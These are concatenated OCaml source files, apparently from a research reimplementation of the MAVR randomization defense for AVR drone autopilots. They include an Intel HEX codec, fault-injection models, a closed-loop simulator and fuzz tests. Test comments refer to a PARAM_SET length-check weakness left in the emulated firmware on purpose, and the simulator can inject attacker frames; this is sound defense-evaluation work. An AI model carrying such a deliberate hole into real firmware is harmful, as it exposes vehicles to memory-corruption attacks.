      pos := !pos + chunk
    done
  in
  List.iter (fun (addr, data) -> emit_data addr data) segments;
  record buf ~addr:0 ~rtype:1 "";
  Buffer.contents buf

let hex_nibble line c =
  match c with
  | '0' .. '9' -> Char.code c - Char.code '0'
  | 'A' .. 'F' -> Char.code c - Char.code 'A' + 10
  | 'a' .. 'f' -> Char.code c - Char.code 'a' + 10
  | _ -> parse_error line "bad hex digit %C" c

let decode text =
  let lines = String.split_on_char '\n' text in
  let upper = ref 0 in
  let chunks = ref [] (* (addr, data) in file order *) in
  let saw_eof = ref false in
  List.iteri
    (fun lineno raw ->
      let line = lineno + 1 in
      let raw = String.trim raw in
      if raw <> "" && not !saw_eof then begin
        if raw.[0] <> ':' then parse_error line "record does not start with ':'";
        let body = String.sub raw 1 (String.length raw - 1) in
        if String.length body land 1 <> 0 then parse_error line "odd hex length";
        let nbytes = String.length body / 2 in
        if nbytes < 5 then parse_error line "record too short";
        let byte i = (hex_nibble line body.[2 * i] lsl 4) lor hex_nibble line body.[(2 * i) + 1] in
        let sum = ref 0 in
        for i = 0 to nbytes - 1 do
          sum := (!sum + byte i) land 0xFF
        done;
        if !sum <> 0 then parse_error line "checksum mismatch";
        let len = byte 0 in
        if nbytes <> len + 5 then parse_error line "length field mismatch";
        let addr = (byte 1 lsl 8) lor byte 2 in
        let rtype = byte 3 in
        match rtype with
        | 0 ->
            let data = String.init len (fun i -> Char.chr (byte (4 + i))) in
            chunks := ((!upper lsl 16) lor addr, data) :: !chunks
        | 1 -> saw_eof := true
        | 4 ->
            if len <> 2 then parse_error line "type-04 record must have 2 data bytes";
            upper := (byte 4 lsl 8) lor byte 5
        | 2 | 3 | 5 -> parse_error line "unsupported record type %d" rtype
        | _ -> parse_error line "unknown record type %d" rtype
      end)
    lines;
  if not !saw_eof then parse_error (List.length lines) "missing end-of-file record";
  (* Merge contiguous chunks into maximal segments. *)
  let sorted = List.stable_sort (fun (a, _) (b, _) -> compare a b) (List.rev !chunks) in
  let rec merge acc = function
    | [] -> List.rev acc
    | (addr, data) :: rest -> (
        match acc with
        | (prev_addr, parts) :: acc_rest when prev_addr + List.fold_left (fun n p -> n + String.length p) 0 parts = addr ->
            merge ((prev_addr, data :: parts) :: acc_rest) rest
        | _ -> merge ((addr, [ data ]) :: acc) rest)
  in
  let merged = merge [] sorted in
  List.map (fun (addr, parts) -> (addr, String.concat "" (List.rev parts))) merged

let flatten ?(fill = '\xff') ?limit segments =
  let visible = match limit with
    | None -> segments
    | Some l -> List.filter (fun (a, _) -> a < l) segments
  in
  let extent =
    List.fold_left (fun m (a, d) -> max m (a + String.length d)) 0 visible
  in
  let extent = match limit with Some l -> min extent l | None -> extent in
  let out = Bytes.make extent fill in
  List.iter
    (fun (a, d) ->
      let len = min (String.length d) (extent - a) in
      if len > 0 then Bytes.blit_string d 0 out a len)
    visible;
  Bytes.to_string out
