test/test_interrupts.mli:
