(** Reflash-session faults: page corruption on the master→application
    programming stream.

    MAVR reflashes the application processor on every boot and every
    recovery (§VI-B); a corrupted page written during that window would
    otherwise brick the vehicle until the next cycle.  This module
    models the corruption ({!stream}) and carries the session bookkeeping
    for the verify-and-retry recovery path in [Master.program_app]:
    stream → CRC-16 verify against the stored image → bounded retries →
    clean fallback re-stream. *)

type params = {
  page_corrupt_ppm : int;  (** per page: one random byte is corrupted *)
  max_retries : int;  (** verify failures tolerated before fallback *)
}

val off : params
val is_off : params -> bool

type stats = {
  sessions : int;  (** programming sessions streamed *)
  pages_streamed : int;
  pages_corrupted : int;
  retries : int;  (** re-streams forced by a failed verify *)
  fallbacks : int;  (** sessions that exhausted retries *)
}

type t

val create : rng:Mavr_prng.Splitmix.t -> params -> t
val params : t -> params
val stats : t -> stats

(** [stream t ~page_bytes code] models pushing [code] page-by-page over
    the programming link: each page is corrupted with probability
    [page_corrupt_ppm] (one random byte replaced).  Returns the bytes as
    they would land in flash, and the number of corrupted pages. *)
val stream : t -> page_bytes:int -> string -> string * int

(** [crc16 code] — the verify checksum (CRC-16/MCRF4XX, the same
    polynomial the MAVLink link already computes in silicon). *)
val crc16 : string -> int

val record_retry : t -> unit
val record_fallback : t -> unit
val attach_metrics : prefix:string -> t -> Mavr_telemetry.Metrics.registry -> unit
