(** Closed-loop scenarios: AVR firmware in the loop with UAV dynamics, a
    ground station, and optionally the MAVR master processor.

    Wall-clock is modeled in milliseconds; each tick advances the
    physics, refreshes the memory-mapped sensor registers, executes the
    application processor for the corresponding cycle budget, ships its
    UART output to the ground station and (with the defense enabled) lets
    the master processor run its watchdog check.  This is the rig behind
    the paper's effectiveness experiments (§VII-A) and the in-flight
    recovery argument (§VIII-A). *)

type defense =
  | No_defense  (** bare APM: a failed attack bricks the autopilot *)
  | Mavr of Mavr_core.Master.config

type t

(** [create ?cycles_per_ms ?faults ~image defense] boots the system.
    [cycles_per_ms] scales the emulated clock (default 2000 — a slowed
    16 MHz part, keeping long scenarios fast while preserving ordering).
    [faults] arms the fault-injection rig for the whole flight: the
    downlink channel corrupts the app→GCS telemetry stream, the uplink
    channel corrupts injected attacker frames, SEUs strike between
    ticks, and the master's programming sessions (including the very
    first boot) run under the reflash-stream fault model. *)
val create :
  ?cycles_per_ms:int -> ?faults:Mavr_fault.Injector.t -> image:Mavr_obj.Image.t -> defense -> t

val app : t -> Mavr_avr.Cpu.t
val gcs : t -> Groundstation.t

(** The master processor (when the defense is enabled). *)
val master : t -> Mavr_core.Master.t option

(** The fault-injection rig passed at {!create}, if any. *)
val faults : t -> Mavr_fault.Injector.t option

val now_ms : t -> float
val dynamics : t -> Dynamics.state

(** The noisy sensor suite feeding the memory-mapped sensor registers. *)
val sensors : t -> Sensors.t

(** [run t ~ms] advances the closed loop by [ms] milliseconds. *)
val run : t -> ms:float -> unit

(** [inject t frames] queues attacker frames on the uplink (delivered at
    the start of the next tick). *)
val inject : t -> string list -> unit

(** [attach_telemetry ?recorder_capacity t ~registry] instruments the
    whole rig: attaches the standard CPU probe bundle (prefix ["app"]) to
    the application processor, exports ground-station and master counters
    as sampled gauges, counts ticks ([sim.ticks]) and samples the clock
    ([sim.now_ms]), and records scenario milestones — uplink deliveries
    ([sim.inject] / [sim.uplink_delivered]) and fresh GCS alarms
    ([gcs.alarm.<kind>], value = ms timestamp) — on the probe bundle's
    flight-recorder ring, which the master's flash-session spans share.
    Returns the probe bundle (its [flight_record] is the unified ring). *)
val attach_telemetry :
  ?recorder_capacity:int ->
  t ->
  registry:Mavr_telemetry.Metrics.registry ->
  Mavr_avr.Probes.t

(** The probe bundle installed by [attach_telemetry], if any. *)
val probes : t -> Mavr_avr.Probes.t option

(** Summary counters for reports. *)
type report = {
  duration_ms : float;
  gcs_frames : int;
  gcs_alarms : Groundstation.alarm list;
  master_detections : int;
  app_halted : bool;
  reflashes : int;
}

val report : t -> report

val pp_report : Format.formatter -> report -> unit
