module Rng = Mavr_prng.Splitmix

let test_deterministic () =
  let a = Rng.create ~seed:7 and b = Rng.create ~seed:7 in
  for _ = 1 to 100 do
    Alcotest.(check int) "same stream" (Rng.next a) (Rng.next b)
  done

let test_seeds_differ () =
  let a = Rng.create ~seed:7 and b = Rng.create ~seed:8 in
  let same = ref 0 in
  for _ = 1 to 50 do
    if Rng.next a = Rng.next b then incr same
  done;
  Alcotest.(check int) "streams differ" 0 !same

let test_bounds () =
  let rng = Rng.create ~seed:3 in
  for _ = 1 to 1000 do
    let v = Rng.int rng 17 in
    if v < 0 || v >= 17 then Alcotest.failf "int out of bound: %d" v;
    let w = Rng.range rng 5 9 in
    if w < 5 || w > 9 then Alcotest.failf "range out of bound: %d" w
  done;
  Alcotest.check_raises "bound zero" (Invalid_argument "Splitmix.int: bound must be positive")
    (fun () -> ignore (Rng.int rng 0))

let test_uniformity () =
  (* Coarse chi-square-ish check over 8 buckets. *)
  let rng = Rng.create ~seed:11 in
  let buckets = Array.make 8 0 in
  let n = 80_000 in
  for _ = 1 to n do
    let b = Rng.int rng 8 in
    buckets.(b) <- buckets.(b) + 1
  done;
  Array.iteri
    (fun i c ->
      let expected = n / 8 in
      if abs (c - expected) > expected / 10 then
        Alcotest.failf "bucket %d count %d too far from %d" i c expected)
    buckets

let test_shuffle_is_permutation () =
  let rng = Rng.create ~seed:5 in
  for _ = 1 to 20 do
    let arr = Array.init 50 (fun i -> i) in
    Rng.shuffle rng arr;
    let sorted = Array.copy arr in
    Array.sort compare sorted;
    Alcotest.(check (array int)) "permutation" (Array.init 50 (fun i -> i)) sorted
  done

let test_shuffle_covers_orders () =
  (* All 6 orders of a 3-element shuffle appear (uniformity smoke). *)
  let rng = Rng.create ~seed:13 in
  let seen = Hashtbl.create 6 in
  for _ = 1 to 500 do
    let arr = [| 0; 1; 2 |] in
    Rng.shuffle rng arr;
    Hashtbl.replace seen (arr.(0), arr.(1), arr.(2)) ()
  done;
  Alcotest.(check int) "all 6 permutations occur" 6 (Hashtbl.length seen)

let test_split_independent () =
  let rng = Rng.create ~seed:21 in
  let c1 = Rng.split rng in
  let c2 = Rng.split rng in
  let same = ref 0 in
  for _ = 1 to 50 do
    if Rng.next c1 = Rng.next c2 then incr same
  done;
  Alcotest.(check int) "children differ" 0 !same

let prop_pick_member =
  QCheck.Test.make ~name:"pick returns a member" ~count:200
    QCheck.(pair small_int (list_of_size (Gen.int_range 1 20) int))
    (fun (seed, l) ->
      let arr = Array.of_list l in
      let rng = Rng.create ~seed in
      let v = Rng.pick rng arr in
      Array.exists (fun x -> x = v) arr)

let () =
  Alcotest.run "prng"
    [
      ( "splitmix",
        [
          Alcotest.test_case "deterministic" `Quick test_deterministic;
          Alcotest.test_case "seeds differ" `Quick test_seeds_differ;
          Alcotest.test_case "bounds" `Quick test_bounds;
          Alcotest.test_case "uniformity" `Quick test_uniformity;
          Alcotest.test_case "shuffle permutes" `Quick test_shuffle_is_permutation;
          Alcotest.test_case "shuffle covers orders" `Quick test_shuffle_covers_orders;
          Alcotest.test_case "split independent" `Quick test_split_independent;
        ] );
      ("properties", [ Helpers.qtest prop_pick_member ]);
    ]
