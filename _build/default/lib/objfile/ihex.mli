(** Intel HEX encoding and decoding.

    The interchange format of the AVR toolchain: compiled applications are
    converted to HEX before flashing, and the MAVR preprocessing phase
    prepends its symbol table to this file (§VI-B2).  Supports data
    records (00), end-of-file (01) and extended linear address (04)
    records, which are required for images above 64 KB such as ArduPlane
    and for the out-of-range segment MAVR uses for its symbol blob. *)

exception Parse_error of { line : int; message : string }

(** [encode segments] renders [(base_address, contents)] segments as HEX
    text, 16 data bytes per record, emitting type-04 records whenever the
    64 KB upper address word changes. *)
val encode : (int * string) list -> string

(** [decode text] parses HEX back into maximal contiguous segments,
    ascending by address.
    @raise Parse_error on malformed input (bad checksum, bad hex digits,
    missing EOF record...). *)
val decode : string -> (int * string) list

(** [flatten ?fill segments] lays segments into a single string starting
    at address 0, filling gaps with [fill] (default [0xFF], erased-flash
    state), and dropping segments beyond [limit] when given. *)
val flatten : ?fill:char -> ?limit:int -> (int * string) list -> string
