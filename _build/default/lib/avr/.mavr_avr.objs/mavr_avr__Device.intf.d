lib/avr/device.mli:
