(* Robustness fuzzing: the firmware must survive arbitrary link garbage
   (the only intentional weakness is the PARAM_SET length check), and the
   host-side MAVLink parser must be invariant to stream chunking. *)

module Cpu = Mavr_avr.Cpu
module Frame = Mavr_mavlink.Frame
module Parser = Mavr_mavlink.Parser
module Rng = Mavr_prng.Splitmix

let prop_firmware_survives_garbage =
  QCheck.Test.make ~name:"firmware survives random uplink garbage" ~count:25
    QCheck.(int_range 1 1_000_000)
    (fun seed ->
      let b = Helpers.build_mavr () in
      let cpu = Helpers.boot b.image in
      let rng = Rng.create ~seed in
      let garbage = String.init 600 (fun _ -> Char.chr (Rng.int rng 256)) in
      Cpu.uart_send cpu garbage;
      match Cpu.run cpu ~max_cycles:2_000_000 with
      | `Budget_exhausted -> Cpu.watchdog_feeds cpu > 100
      | `Halted _ -> false)

let prop_firmware_survives_valid_random_frames =
  (* Valid CRC, random msgid/payload (excluding the one intentionally
     vulnerable path: PARAM_SET with an oversized payload). *)
  QCheck.Test.make ~name:"firmware survives valid random frames" ~count:20
    QCheck.(int_range 1 1_000_000)
    (fun seed ->
      let b = Helpers.build_mavr () in
      let cpu = Helpers.boot b.image in
      let rng = Rng.create ~seed in
      for _ = 1 to 6 do
        let msgid = Rng.int rng 256 in
        let len = Rng.int rng 256 in
        let len = if msgid = 23 then min len 60 else len in
        let payload = String.init len (fun _ -> Char.chr (Rng.int rng 256)) in
        Cpu.uart_send cpu
          (Frame.encode { Frame.seq = Rng.int rng 256; sysid = 255; compid = 0; msgid; payload })
      done;
      match Cpu.run cpu ~max_cycles:3_000_000 with
      | `Budget_exhausted -> true
      | `Halted _ -> false)

let prop_parser_chunking_invariant =
  QCheck.Test.make ~name:"parser invariant to stream chunking" ~count:60
    QCheck.(pair (int_range 1 1_000_000) (int_range 1 9))
    (fun (seed, nframes) ->
      let rng = Rng.create ~seed in
      let frames =
        List.init nframes (fun k ->
            let len = Rng.int rng 40 in
            { Frame.seq = k; sysid = 1; compid = 1; msgid = Rng.int rng 256;
              payload = String.init len (fun _ -> Char.chr (Rng.int rng 256)) })
      in
      let stream = String.concat "" (List.map Frame.encode frames) in
      (* Reference: one shot. *)
      let p1 = Parser.create () in
      let whole = Parser.feed p1 stream in
      (* Random chunking. *)
      let p2 = Parser.create () in
      let out = ref [] in
      let pos = ref 0 in
      while !pos < String.length stream do
        let n = min (1 + Rng.int rng 17) (String.length stream - !pos) in
        out := !out @ Parser.feed p2 (String.sub stream !pos n);
        pos := !pos + n
      done;
      whole = !out && List.length whole = nframes)

let prop_parser_never_raises =
  QCheck.Test.make ~name:"parser total on arbitrary bytes" ~count:100
    QCheck.(string_of_size (QCheck.Gen.int_range 0 400))
    (fun junk ->
      let p = Parser.create () in
      ignore (Parser.feed p junk);
      true)

let prop_decode_cache_differential =
  (* The predecode cache must be architecturally invisible: random code
     (dense AVR encodings make random words mostly-valid instructions,
     with illegal/wild halts mixed in) is stepped in lockstep through a
     cached and an uncached CPU, diffing the full architectural state
     after every instruction.  Each round reflashes both CPUs with fresh
     random code mid-run, so a stale cache surviving the flash epoch
     bump would be caught as a state divergence. *)
  QCheck.Test.make ~name:"decode cache differential vs raw decode" ~count:40
    QCheck.(int_range 1 1_000_000)
    (fun seed ->
      let rng = Rng.create ~seed in
      let cached = Cpu.create () in
      Cpu.set_decode_cache cached true;
      let raw = Cpu.create () in
      Cpu.set_decode_cache raw false;
      let state cpu =
        ( Cpu.pc cpu, Cpu.sp cpu, Cpu.sreg cpu, Cpu.cycles cpu,
          Cpu.instructions_retired cpu, Cpu.halted cpu,
          List.init 32 (Cpu.reg cpu) )
      in
      let ok = ref true in
      for _round = 1 to 3 do
        let code = String.init 512 (fun _ -> Char.chr (Rng.int rng 256)) in
        Cpu.load_program cached code;
        Cpu.load_program raw code;
        (try
           for _ = 1 to 200 do
             Cpu.step cached;
             Cpu.step raw;
             if state cached <> state raw then begin
               ok := false;
               raise Exit
             end;
             if Cpu.halted cached <> None then raise Exit
           done
         with Exit -> ())
      done;
      !ok && state cached = state raw)

let test_zero_length_param_set_harmless () =
  let b = Helpers.build_mavr () in
  let cpu = Helpers.boot b.image in
  Cpu.uart_send cpu
    (Frame.encode { Frame.seq = 0; sysid = 255; compid = 0; msgid = 23; payload = "" });
  match Cpu.run cpu ~max_cycles:1_000_000 with
  | `Budget_exhausted -> ()
  | `Halted h -> Alcotest.failf "crashed on empty PARAM_SET: %s" (Format.asprintf "%a" Cpu.pp_halt h)

let test_interleaved_truncated_frames () =
  let b = Helpers.build_mavr () in
  let cpu = Helpers.boot b.image in
  let good =
    Frame.encode { Frame.seq = 1; sysid = 255; compid = 0; msgid = 76; payload = "ok" }
  in
  (* A truncated frame head swallows the next frame's bytes as its own
     payload/CRC (there is no framing gap on a byte stream) and is then
     rejected on checksum; the frame after that parses cleanly. *)
  Cpu.uart_send cpu (String.sub good 0 5);
  Cpu.uart_send cpu good;
  Cpu.uart_send cpu good;
  (match Cpu.run cpu ~max_cycles:1_500_000 with
  | `Budget_exhausted -> ()
  | `Halted _ -> Alcotest.fail "crashed on truncated frame");
  Alcotest.(check int) "recovered on the following frame" (Char.code 'o')
    (Cpu.data_peek cpu Mavr_firmware.Layout.cmd_area)

let test_wrong_crc_extra_rejected_by_firmware () =
  let b = Helpers.build_mavr () in
  let cpu = Helpers.boot b.image in
  (* PARAM_SET encoded with the wrong CRC_EXTRA: firmware must drop it. *)
  Cpu.uart_send cpu
    (Frame.encode ~crc_extra:99
       { Frame.seq = 0; sysid = 255; compid = 0; msgid = 23; payload = "\xEE\xEE\xEE" });
  ignore (Cpu.run cpu ~max_cycles:1_000_000);
  Alcotest.(check int) "param area untouched" 0
    (Cpu.data_peek cpu (Mavr_firmware.Layout.param_area + 1))

let () =
  Alcotest.run "fuzz"
    [
      ( "firmware",
        [
          Helpers.qtest prop_firmware_survives_garbage;
          Helpers.qtest prop_firmware_survives_valid_random_frames;
          Alcotest.test_case "zero-length PARAM_SET" `Quick test_zero_length_param_set_harmless;
          Alcotest.test_case "interleaved truncated frames" `Quick test_interleaved_truncated_frames;
          Alcotest.test_case "wrong CRC_EXTRA rejected" `Quick test_wrong_crc_extra_rejected_by_firmware;
        ] );
      ( "parser",
        [
          Helpers.qtest prop_parser_chunking_invariant;
          Helpers.qtest prop_parser_never_raises;
        ] );
      ("decode-cache", [ Helpers.qtest prop_decode_cache_differential ]);
    ]
