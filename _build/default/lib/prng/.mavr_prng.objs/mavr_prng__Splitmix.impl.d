lib/prng/splitmix.ml: Array
