test/test_patch_property.mli:
