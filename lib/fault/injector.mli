(** One trial's worth of fault machinery, built from a single seed.

    The injector owns a private Splitmix tree: the trial seed splits
    into independent streams for the downlink channel, the uplink
    channel, the SEU process and the reflash stream, so enabling one
    fault class never perturbs another's draws — and a campaign that
    hands each trial a split seed stays bit-identical for any job
    count. *)

type t

val create : seed:int -> Profile.level -> t
val level : t -> Profile.level

(** [None] when the corresponding params are clean/off — call sites can
    skip the fault path entirely on the baseline level. *)
val downlink : t -> Channel.t option

val uplink : t -> Channel.t option
val reflash : t -> Reflash.t option

(** [seu_tick t cpu] runs the SEU process for one tick (no-op when the
    level's SEU params are off). *)
val seu_tick : t -> Mavr_avr.Cpu.t -> unit

val seu_stats : t -> Seu.stats

(** Exports every enabled fault source's counters under
    [fault.downlink.*], [fault.uplink.*], [fault.seu.*],
    [fault.reflash.*] — all sampled counters, so per-trial registries
    sum at the campaign join. *)
val attach_metrics : t -> Mavr_telemetry.Metrics.registry -> unit
