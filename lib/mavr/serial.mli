(** Serial-link and flash-programming timing model (§VII-B1).

    The MAVR prototype streams the randomized binary to the application
    processor's bootloader over a 115200-baud UART — at 10 bits per byte
    on the wire that is 11.52 bytes/ms, which makes programming
    transfer-bound and reproduces Table II directly from the code sizes.
    A production PCB at mega-baud rates shifts the bottleneck to the
    internal flash page writes (~4 s for a full 256 KB part — the paper's
    "conservative estimate"). *)

type t = {
  baud : int;  (** UART rate; 115200 in the prototype *)
  bits_per_byte : int;  (** 10 with 8N1 framing *)
  page_write_ms : float;  (** erase+program time per flash page *)
  page_bytes : int;
  patch_overhead_ms_per_kb : float;
      (** master-side randomization compute per KB of image *)
}

val prototype : t
(** 115200 baud, 4 ms per 256-byte page. *)

val production : t
(** 4 Mbaud (impedance-controlled PCB), same flash timing. *)

(** [transfer_ms t bytes] — wire time for [bytes]. *)
val transfer_ms : t -> int -> float

(** [flash_ms t bytes] — page-programming time. *)
val flash_ms : t -> int -> float

(** [patch_ms t bytes] — master-side randomization compute time. *)
val patch_ms : t -> int -> float

(** [programming_ms t bytes] — total startup overhead for reprogramming a
    [bytes]-byte application: randomization compute plus the larger of
    the (pipelined) transfer and flash-write phases. *)
val programming_ms : t -> int -> float

(** Effective throughput in bytes per millisecond (the paper's "11 bytes
    per millisecond" figure). *)
val bytes_per_ms : t -> float
