(** Two-pass AVR assembler with symbols and optional linker relaxation.

    This plays the role of the GCC/Binutils link step in the paper's
    toolchain (§VI-B1).  Programs are lists of {e functions} — the unit
    MAVR shuffles — plus an interrupt-vector stub and a data-initializer
    blob placed after the text section in flash.

    Relaxation ([~relax:true], Binutils' default) replaces long
    [call]/[jmp] with [rcall]/[rjmp] when the target is within ±4 KB; the
    MAVR toolchain assembles with [~relax:false] ([--no-relax]) so that
    every inter-function transfer uses an absolute, patchable encoding. *)

type part =
  | Lo8  (** low byte of a label value *)
  | Hi8  (** high byte *)
  | Lo8_word  (** low byte of a label's {e word} address (value / 2) *)
  | Hi8_word

(** An assembly item.  Label values are flash {e byte} addresses for code
    labels, or arbitrary integers for [defines]. *)
type item =
  | Label of string
  | Insn of Mavr_avr.Isa.t
  | Call_sym of string  (** long call, relaxable to [rcall] *)
  | Jmp_sym of string
  | Call_sym_off of string * int  (** call into symbol + word offset (trampoline) *)
  | Jmp_sym_off of string * int
  | Rcall_sym of string  (** forced short call (must be in range) *)
  | Rjmp_sym of string
  | Br of [ `Sbit of int | `Cbit of int ] * string
      (** conditional branch ([brbs]/[brbc]) to a nearby label *)
  | Ldi_sym of Mavr_avr.Isa.reg * part * string
  | Word_sym of string
      (** 16-bit little-endian {e word address} of a function — a function
          pointer as stored in data/vtables; its flash offset is recorded
          for the MAVR preprocessing phase *)
  | Raw_words of int list
  | Raw_bytes of string

type func = { name : string; items : item list }

type program = {
  vectors : item list;  (** placed at address 0 (reset/interrupt stubs) *)
  funcs : func list;  (** the .text section, in order *)
  data : item list;  (** .data/.rodata initializer blob, placed after text *)
  defines : (string * int) list;  (** extra label definitions *)
}

type symbol = { name : string; addr : int; size : int }
(** A function symbol: [addr]/[size] in bytes within the image. *)

type output = {
  code : string;  (** the flash image *)
  symbols : symbol list;  (** one per function, ascending address *)
  funptr_locs : int list;  (** flash offsets of [Word_sym] emissions *)
  labels : (string * int) list;  (** every label's resolved value *)
  text_start : int;
  text_end : int;  (** exclusive; functions live in [text_start, text_end) *)
  data_load : int;  (** flash offset of the data blob *)
}

exception Error of string

(** [assemble ~relax program] lays out, resolves and encodes [program].

    Auto-defined labels: ["__text_start"], ["__text_end"],
    ["__data_load_start"], ["__data_load_end"], and each function's name.
    @raise Error on undefined/duplicate labels or out-of-range branches. *)
val assemble : relax:bool -> program -> output

(** [find_symbol out name] looks up a function symbol.
    @raise Not_found when absent. *)
val find_symbol : output -> string -> symbol

(** [label_value out name]
    @raise Not_found when absent. *)
val label_value : output -> string -> int
