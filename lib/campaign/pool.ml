exception Task_failed of { index : int; exn : exn; backtrace : string }

(* One published parallel-for.  [next] is the chunked queue head;
   [completed] counts finished tasks (failures included) so the caller
   knows when the join is safe; failures accumulate under the pool
   mutex and are re-raised deterministically (lowest index) after the
   barrier. *)
type job = {
  body : int -> unit;
  total : int;
  chunk : int;
  next : int Atomic.t;
  completed : int Atomic.t;
  mutable failures : (int * exn * string) list;
}

type t = {
  jobs : int;
  mutex : Mutex.t;
  work_ready : Condition.t;
  work_done : Condition.t;
  mutable job : job option;
  mutable generation : int;
  mutable stopping : bool;
  mutable domains : unit Domain.t list;
  (* Per-slot utilization (slot 0 = the calling domain, 1.. = workers).
     Each slot is written only by its own domain, around whole chunks, so
     the plain get-then-set below is not a lost-update hazard — but the
     cells are read cross-domain by [stats] (progress heartbeats), which
     under the OCaml 5 memory model makes plain array cells a data race
     with torn/stale reads.  Atomic slots give each read/write SC
     semantics; [stats] still observes whole-chunk granularity only. *)
  task_counts : int Atomic.t array;
  busy_s : float Atomic.t array;
}

let max_jobs = 16

let process t ~slot job =
  let rec drain () =
    let start = Atomic.fetch_and_add job.next job.chunk in
    if start < job.total then begin
      let stop = min job.total (start + job.chunk) in
      let t0 = Clock.wall () in
      for i = start to stop - 1 do
        try job.body i
        with e ->
          let bt = Printexc.get_backtrace () in
          Mutex.lock t.mutex;
          job.failures <- (i, e, bt) :: job.failures;
          Mutex.unlock t.mutex
      done;
      let n = stop - start in
      Atomic.set t.task_counts.(slot) (Atomic.get t.task_counts.(slot) + n);
      Atomic.set t.busy_s.(slot) (Atomic.get t.busy_s.(slot) +. (Clock.wall () -. t0));
      if Atomic.fetch_and_add job.completed n + n = job.total then begin
        (* Last task in: wake the caller blocked in [run]'s join. *)
        Mutex.lock t.mutex;
        Condition.broadcast t.work_done;
        Mutex.unlock t.mutex
      end;
      drain ()
    end
  in
  drain ()

let worker t ~slot =
  let seen = ref 0 in
  let rec park () =
    Mutex.lock t.mutex;
    while (not t.stopping) && t.generation = !seen do
      Condition.wait t.work_ready t.mutex
    done;
    if t.stopping then Mutex.unlock t.mutex
    else begin
      seen := t.generation;
      let job = t.job in
      Mutex.unlock t.mutex;
      (match job with Some j -> process t ~slot j | None -> ());
      park ()
    end
  in
  park ()

let create ?jobs () =
  let jobs =
    match jobs with
    | Some j when j < 1 -> invalid_arg "Campaign.Pool.create: jobs must be >= 1"
    | Some j -> min j max_jobs
    | None -> min max_jobs (max 1 (Domain.recommended_domain_count ()))
  in
  let t =
    {
      jobs;
      mutex = Mutex.create ();
      work_ready = Condition.create ();
      work_done = Condition.create ();
      job = None;
      generation = 0;
      stopping = false;
      domains = [];
      task_counts = Array.init jobs (fun _ -> Atomic.make 0);
      busy_s = Array.init jobs (fun _ -> Atomic.make 0.0);
    }
  in
  t.domains <- List.init (jobs - 1) (fun i -> Domain.spawn (fun () -> worker t ~slot:(i + 1)));
  t

let jobs t = t.jobs

type domain_stats = { tasks_run : int; busy_s : float }

let stats t =
  Array.init t.jobs (fun i ->
      { tasks_run = Atomic.get t.task_counts.(i); busy_s = Atomic.get t.busy_s.(i) })

let raise_first_failure job =
  match List.sort (fun (a, _, _) (b, _, _) -> compare a b) job.failures with
  | [] -> ()
  | (index, exn, backtrace) :: _ -> raise (Task_failed { index; exn; backtrace })

let run t ~tasks body =
  if tasks < 0 then invalid_arg "Campaign.Pool.run: negative task count";
  if tasks > 0 then begin
    (* Chunk so the queue is touched O(jobs) times on big fan-outs but
       single tasks still load-balance; determinism never depends on the
       chunking, only throughput does. *)
    let chunk = max 1 (tasks / (t.jobs * 8)) in
    let job =
      { body; total = tasks; chunk; next = Atomic.make 0; completed = Atomic.make 0; failures = [] }
    in
    if t.jobs = 1 then process t ~slot:0 job
    else begin
      Mutex.lock t.mutex;
      t.job <- Some job;
      t.generation <- t.generation + 1;
      Condition.broadcast t.work_ready;
      Mutex.unlock t.mutex;
      (* The caller is a worker too: it drains the same queue, then
         blocks until the stragglers running on other domains finish. *)
      process t ~slot:0 job;
      Mutex.lock t.mutex;
      while Atomic.get job.completed < job.total do
        Condition.wait t.work_done t.mutex
      done;
      t.job <- None;
      Mutex.unlock t.mutex
    end;
    raise_first_failure job
  end

let shutdown t =
  Mutex.lock t.mutex;
  t.stopping <- true;
  Condition.broadcast t.work_ready;
  Mutex.unlock t.mutex;
  List.iter Domain.join t.domains;
  t.domains <- []

let with_pool ?jobs f =
  let t = create ?jobs () in
  Fun.protect ~finally:(fun () -> shutdown t) (fun () -> f t)
