(** Harvard memories of an AVR device (Fig. 1 of the paper).

    Program flash and the linear data space are physically separate: code
    executes only from flash, the program counter can never point into
    data memory, and nothing executed on the device can write flash (only
    the bootloader programming interface below can, mirroring
    self-programming via SPM).  The data space contains the memory-mapped
    register file at addresses 0x00–0x1F — the property both paper gadgets
    exploit — the 64 I/O registers, and SRAM. *)

type t

val create : Device.t -> t
val device : t -> Device.t

(** {2 Program flash} *)

(** [load_flash t image] programs [image] at address 0 (initial flashing;
    does not count against endurance).
    @raise Invalid_argument if the image exceeds flash. *)
val load_flash : t -> string -> unit

val flash_byte : t -> int -> int

(** [flash_word t word_addr] is the little-endian 16-bit program word. *)
val flash_word : t -> int -> int

val flash_size : t -> int

(** [flash_write_page t ~page_addr data] emulates bootloader/SPM page
    programming and increments the wear counter. [page_addr] must be
    page-aligned and [data] exactly one page. *)
val flash_write_page : t -> page_addr:int -> string -> unit

(** Total pages programmed since [create] (wear-leveling input to the
    re-randomization frequency analysis, §V-C). *)
val flash_page_writes : t -> int

(** Copy of the full flash contents (for host-side scanning/disassembly). *)
val flash_contents : t -> string

(** [flash_epoch t] increments on every flash mutation ({!load_flash} or
    {!flash_write_page}).  Consumers that cache decoded program words
    (the CPU's predecode cache) compare epochs to detect a reflash —
    the per-lifetime re-randomization path — and invalidate. *)
val flash_epoch : t -> int

(** {2 Data space} *)

(** Raw data-space accessors: no I/O side effects (used by the CPU for
    register-file access and by host-side inspection). *)
val data_get : t -> int -> int

val data_set : t -> int -> int -> unit

(** Register-file accessors for the CPU's hot path: like [data_get] /
    [data_set] but specialized to the 32 registers at data 0x00..0x1F
    (the register index is masked to that range rather than checked). *)
val reg_get : t -> int -> int

val reg_set : t -> int -> int -> unit

(** [in_data_space t addr] is true when [addr] is a legal data address. *)
val in_data_space : t -> int -> bool

val data_slice : t -> pos:int -> len:int -> string

(** {2 EEPROM} *)

val eeprom_get : t -> int -> int
val eeprom_set : t -> int -> int -> unit
