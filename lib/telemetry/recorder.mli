(** Cycle-stamped flight recorder.

    A bounded ring buffer of probe events — the "black box" that answers
    "why did this run die".  Producers record points (one-shot events)
    and spans (begin/end pairs, e.g. the master's flash-session phases);
    once the ring is full each new event overwrites the oldest in O(1).
    On a CPU halt or fault the retained window — the last N events before
    death — is the dump (see {!Mavr_avr.Probes}). *)

type kind = Point | Span_begin | Span_end

type event = {
  cycle : int;  (** emulated-CPU cycle stamp (or modeled-time stamp) *)
  kind : kind;
  name : string;
  value : int;  (** event-specific payload, e.g. a byte address or µs *)
}

type t

(** [create ~capacity] — ring retaining the most recent [capacity]
    events.  Raises [Invalid_argument] on a non-positive capacity. *)
val create : capacity:int -> t

val capacity : t -> int

